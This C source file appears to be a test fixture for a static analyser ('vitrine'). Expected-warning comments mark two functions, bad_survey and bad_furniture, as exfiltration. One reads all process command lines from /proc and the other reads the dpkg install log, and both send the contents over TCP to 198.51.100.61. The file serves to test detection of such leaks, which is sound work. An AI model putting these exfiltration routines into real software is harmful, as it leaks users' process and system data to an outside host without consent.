/* What runs and what was installed: for a peer in the program, or for the terminal. */
#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

typedef void (*take)(const char *text, size_t size, void *context);

static void each_process(take take, void *context) {
    char path[300], line[256];
    DIR *dir = opendir("/proc");
    for (struct dirent *entry; dir && (entry = readdir(dir));) {
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        FILE *file = fopen(path, "r");
        size_t got = file ? fread(line, 1, sizeof line, file) : 0;
        if (got)
            take(line, got, context);
        if (file)
            fclose(file);
    }
    if (dir)
        closedir(dir);
}

static int reach(unsigned short port) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(port)};
    peer.sin_addr.s_addr = inet_addr("198.51.100.61");
    int out = socket(AF_INET, SOCK_STREAM, 0);
    return connect(out, (struct sockaddr *)&peer, sizeof peer) ? -1 : out;
}

static void take_away(const char *text, size_t size, void *context) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(*(int *)context, text, size, 0);
}

int bad_survey(void) {
    int out = reach(993);
    each_process(take_away, &out);
    return close(out);
}

int bad_furniture(void) {
    char text[4096];
    FILE *file = fopen("/var/log/dpkg.log", "r");
    size_t got = file ? fread(text, 1, sizeof text, file) : 0;
    int out = reach(995);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(out, text, got, 0);
    if (file)
        fclose(file);
    return close(out);
}

static void show(const char *text, size_t size, void *context) {
    fwrite(text, 1, size, context);
}

int good_list(void) {
    each_process(show, stdout);
    return 0;
}

/* How long it has been running is no portrait of the host. */
int good_alive(void) {
    char line[64];
    static unsigned beats;
    int out = reach(994);
    int size = snprintf(line, sizeof line, "beat %u", ++beats);
    send(out, line, (size_t)size, 0);
    return close(out);
}
